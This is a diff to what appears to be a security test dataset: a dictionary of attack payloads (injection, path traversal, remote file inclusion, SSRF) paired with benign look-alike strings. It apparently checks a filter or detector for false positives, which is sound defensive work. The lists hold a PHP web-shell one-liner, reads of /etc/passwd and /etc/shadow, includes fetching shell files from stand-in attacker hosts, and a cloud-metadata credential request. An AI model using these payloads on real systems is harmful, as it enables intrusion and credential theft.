@@ -22,7 +22,8 @@ ATTACKS = {
                        "<?php system($_GET['c']); ?>", "eval(atob('YWxlcnQoMSk='))",
                        "java.lang.Runtime.getRuntime().exec('id')"],
     "path_traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
-                       "....//....//etc/hosts", "/proc/self/environ", "/var/task/handler.py", "C:\\Windows\\win.ini", "file:///etc/passwd"],
+                       "....//....//etc/hosts", "/proc/self/environ", "/var/task/handler.py",
+                       "../config.php", "..%2fapp.py", "C:/unattend.xml", "C:\\Windows\\win.ini", "file:///etc/passwd"],
     "rfi": ["/index.php?page=http://attacker.example/shell.txt?", "include=ftp://evil.example/x.php%00",
             "http://example.com/:x@evil.example/", "https://example.com.evil.example/"],
     "ssrf": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://2852039166/",
@@ -59,6 +60,8 @@ BENIGN = [
     "The union of two sets", "Please update my address", "Ping me when you're back",
     "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "192.168.0.1/32", "127.0.0.1", "dir=asc&sort=name",
     "https://medium.com/@someone/a-post-1234", "https://shop.example.com.au/cart", "<p>Hello <b>world</b></p>",
+    "../images/logo.png", "see ../README.md for details", "${HOME}/bin", "Dear <%= name %>,", "The system(s) are down",
+    "C:\\Users\\me\\report.txt", "Hello {{ user.first_name }}",
 ]
 
 
